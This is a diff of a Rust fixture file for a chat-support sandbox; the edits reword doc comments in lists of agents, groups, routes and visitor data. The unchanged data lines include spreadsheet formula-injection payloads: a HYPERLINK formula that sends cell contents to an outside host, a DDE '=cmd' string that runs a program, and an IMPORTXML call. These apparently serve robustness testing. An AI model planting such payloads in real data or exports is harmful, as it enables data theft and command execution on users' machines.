@@ -1,9 +1,9 @@
-//! Who lives in the sandbox's world and what they say: fixed lists, awkward on purpose (many scripts, quotes, line breaks, formulas,
-//! script tags, bidi marks), because that is what a real archive holds.
+//! The people and texts of the sandbox's world: fixed lists with difficult content (many scripts, quotes, line breaks, formulas, script
+//! tags, bidi marks), because real archives contain such content.
 
 use serde::Serialize;
 
-/// Somebody who answers chats.
+/// An agent.
 #[derive(Debug)]
 pub struct Agent {
     pub login: &'static str,
@@ -15,7 +15,7 @@ pub struct Agent {
     pub job_title: &'static str,
 }
 
-/// How many agents there are.
+/// The number of agents.
 pub const AGENT_COUNT: usize = 12;
 
 pub const AGENTS: [Agent; AGENT_COUNT] = [
@@ -37,13 +37,13 @@ const fn agent(login: &'static str, name: &'static str, permission: &'static str
     Agent { login, name, permission, status, job_title }
 }
 
-/// A group of agents. Group 0 is everybody, and is told without a list.
+/// A group of agents. Group 0 contains all agents and has no list.
 #[derive(Debug)]
 pub struct Group {
     pub id: u32,
     pub name: &'static str,
     pub language: &'static str,
-    /// Positions in `AGENTS`.
+    /// Indexes into `AGENTS`.
     pub agents: Option<&'static [usize]>,
     pub status: &'static str,
 }
@@ -57,10 +57,10 @@ pub const GROUPS: [Group; 6] = [
     Group { id: 7, name: "Billing \"urgent\" 💳", language: "en", agents: Some(&[6, 8, 10, 11]), status: "offline" },
 ];
 
-/// What chats are routed to: the group lists that a chat can have, more common ones more often.
+/// The group lists that a chat can have; common ones occur several times.
 pub const ROUTES: [&[u32]; 12] = [&[0], &[1], &[1], &[2], &[2], &[3], &[4], &[7], &[1, 7], &[0, 2], &[2], &[0]];
 
-/// Where visitors are.
+/// The location of a visitor.
 #[derive(Debug, Serialize)]
 pub struct Place {
     pub city: &'static str,
@@ -109,7 +109,7 @@ pub const LAST_NAMES: [&str; 16] = [
     "van der Berg",
 ];
 
-/// Names that break careless programs. The bidi marks are written as escapes, so that this file reads the way it is stored.
+/// Names that careless programs handle wrongly. The bidi marks are escaped, so that this file looks as it is stored.
 pub const ODD_NAMES: [&str; 14] = [
     "=1+1",
     "+47 22 33 44 55",
@@ -165,7 +165,7 @@ pub const AGENT_LINES: [&str; 14] = [
     "1) Open Settings\n2) Choose \"Orders\"\n3) Press Change",
 ];
 
-/// Messages that break careless programs.
+/// Messages that careless programs handle wrongly.
 pub const ODD_LINES: [&str; 16] = [
     "=1+1",
     "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
@@ -205,7 +205,7 @@ pub const TAGS: [&str; 8] = ["refund", "sales", "bug, urgent", "vip ⭐", "spam"
 
 pub const CAMPAIGNS: [&str; 5] = ["spring, 2026", "newsletter", "=IMPORTXML(\"x\")", "", "høst"];
 
-/// What visitors searched for before they came.
+/// Search terms of visitors.
 pub const SEARCHES: [&str; 8] =
     ["blue shoes", "sko, str. 42", "\"deep blue\" & size<43", "靴 大阪", "=cmd|' /C calc'!A0", "buty zimowe łódź", "return policy > 30 days", "حذاء أزرق"];
 
